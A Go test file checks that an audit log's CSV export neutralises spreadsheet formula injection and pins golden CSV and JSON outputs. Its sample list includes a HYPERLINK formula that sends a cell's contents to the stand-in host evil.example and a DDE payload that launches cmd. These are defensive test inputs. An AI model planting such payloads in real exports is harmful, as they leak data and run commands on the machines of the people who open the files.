package audit

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/sirocco-project/sirocco/internal/jsonvalue"
)

// injections are cells a spreadsheet would run as formulas or that try to
// break out of a cell.
var injections = []string{
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1,2)",
	"\t=1+1",
	"\r=1+1",
	"a,\"b\"\nc", // quotes, comma and newline: csv quotes it
	"'already quoted",
	" =1+1", // a space first: not a formula
}

func exportRecords(t *testing.T) []Record {
	recs := sample(len(injections))
	for i, s := range injections {
		recs[i].Comment = s
	}
	recs[0].Actor = "=cmd"
	recs[1].Addr = "-1"
	recs[2].Reason = "@user"
	recs[3].Answer = `-5`
	recs[4].Groups = []string{"+g", "h"}
	// The hostile record without its NUL, which would make git take the
	// golden file for binary (the canonical golden covers it).
	h := hostile()
	h.ActionExecutionID = "a-b"
	recs = append(recs, h)
	recs, _ = seal(t, recs, testKey)
	return recs
}

// TestCSVGolden pins the CSV export, and checks by reading it back that no
// cell starts with a formula character.
func TestCSVGolden(t *testing.T) {
	t.Parallel()
	recs := exportRecords(t)
	var b bytes.Buffer
	if err := WriteCSV(&b, recs); err != nil {
		t.Fatal(err)
	}
	golden(t, "export.csv", b.Bytes())

	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(recs)+1 || strings.Join(rows[0], ",") != strings.Join(CSVHeader, ",") {
		t.Fatalf("%d rows, header %v", len(rows), rows[0])
	}
	comment := slices.Index(CSVHeader, "comment")
	for i, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts with %q: %q", i+1, CSVHeader[j], cell[0], cell)
			}
		}
		if i < len(injections) {
			if want := Neutralise(injections[i]); row[comment] != want {
				t.Errorf("row %d comment = %q, want %q", i+1, row[comment], want)
			}
		}
	}
}

// TestNeutralise: exactly the dangerous first characters get a quote.
func TestNeutralise(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\t1": "'\t1", "\r1": "'\r1",
		"": "", "a=1": "a=1", "1-2": "1-2", "'=1": "'=1", "\n=1": "\n=1", "é": "é",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSVEmpty: an empty export is the header alone.
func TestCSVEmpty(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := WriteCSV(&b, nil); err != nil {
		t.Fatal(err)
	}
	if want := strings.Join(CSVHeader, ",") + "\n"; b.String() != want {
		t.Errorf("empty export = %q, want %q", b.String(), want)
	}
}

// TestJSONGolden pins the JSON export's shape (as GET /v2/audit wraps it:
// {"audit": [...]}): values unneutralised, the answer as JSON.
func TestJSONGolden(t *testing.T) {
	t.Parallel()
	recs := exportRecords(t)
	list := make([]any, len(recs))
	for i := range recs {
		list[i] = recs[i].Value()
	}
	b, err := jsonvalue.AppendIndent(nil, map[string]any{"audit": list}, "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "export.json", append(b, '\n'))
	v, _ := jsonvalue.Decode(b)
	first := jsonvalue.Unordered(v).(map[string]any)["audit"].([]any)[0].(map[string]any)
	if first["comment"] != injections[0] || !jsonvalue.Equal(first["answer"], map[string]any{"cores": int64(4)}) {
		t.Errorf("first record exported as %v", first)
	}
}
